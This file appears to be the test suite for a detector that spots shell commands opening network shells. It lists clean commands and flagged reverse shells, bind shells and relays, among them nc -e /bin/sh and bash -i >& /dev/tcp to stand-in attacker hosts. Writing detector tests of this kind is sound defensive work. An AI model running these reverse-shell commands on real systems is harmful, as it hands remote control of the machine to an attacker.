import { openShell } from "../../src/detectors/open-shell.ts";
import { testDetector } from "../support/detector-tester.ts";

testDetector(openShell, {
  clean: [
    "mkfifo p; cat p | nc localhost 4444",
    "mkfifo p; cat notes.txt > p & cat p",
    { run: "cat a.sh | sh | curl -d @- https://example.test > out.txt", files: { "a.sh": "ls" } },
    "nc -zv host.example.test 22",
    "nc -z localhost 80",
    "nc -l 127.0.0.1 4444",
    "python3 -m http.server --bind 127.0.0.1",
    "bash -i",
    "echo hi > /dev/tcp/127.0.0.1/80",
    "exec 3<>/dev/tcp/127.0.0.1/80",
    "ssh -L 8080:localhost:80 dev@host.example.test",
    "socat - TCP:localhost:80",
    "cat < /dev/tcp/time.example.test/13",
    "echo 'nc -e /bin/sh collect.example.test 4444'",
  ],
  flagged: [
    {
      run: "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
      findings: [{ messageId: "reverse", at: "203.0.113.5" }],
    },
    {
      run: "mkfifo p; sh < p | openssl s_client -quiet -connect 203.0.113.5:4444 > p",
      findings: ["reverse"],
    },
    { run: "exec 5<>/dev/tcp/203.0.113.5/4444; bash <&5 >&5", findings: ["reverse"] },
    { run: "ncat --exec /bin/bash 203.0.113.5 4444", findings: ["reverse"] },
    { run: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", findings: ["reverse"] },
    { run: "nc -e /bin/sh collect.example.test 4444", findings: ["reverse"] },
    { run: "socat TCP:203.0.113.5:4444 EXEC:/bin/bash", findings: ["reverse"] },
    { run: "nc -l -p 4444 -e /bin/sh", findings: ["bind"] },
    { run: "socat TCP-LISTEN:4444,fork EXEC:/bin/bash", findings: ["bind"] },
    { run: "ssh -R 8080:localhost:80 dev@host.example.test", findings: ["relay"] },
    { run: "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80", findings: ["relay"] },
    { run: "python3 -m http.server", findings: ["files"] },
    { run: "python3 -m http.server 8000", findings: ["files"] },
  ],
});
